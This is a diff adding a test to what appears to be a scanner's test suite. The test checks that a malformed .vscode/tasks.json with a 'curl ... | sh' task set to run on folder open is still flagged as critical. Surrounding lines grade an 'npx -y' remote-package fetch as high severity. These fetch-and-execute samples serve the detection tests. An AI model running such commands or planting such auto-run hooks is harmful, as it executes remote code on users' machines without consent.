@@ -147,3 +147,9 @@ def test_grader_package_runs():
     assert grade_command("npx -y https://198.51.100.2/x.tgz").severity == Severity.HIGH
     for ok in ("npx prettier --write .", "uvx ruff check", "npm ci && npx playwright install", "pnpm dlx create-vite"):
         assert grade_command(ok) is None, ok
+
+
+def test_a_syntax_error_hides_nothing():
+    broken = '{"tasks": [{"label": "x", "command": "curl -s https://203.0.113.4/a | sh", "runOptions": {"runOn": "folderOpen"}}] oops }'
+    assert top("IG605", broken, ".vscode/tasks.json") == Severity.CRITICAL
+    assert top("IG605", '\ufeff{"tasks": []}', ".vscode/tasks.json") is None
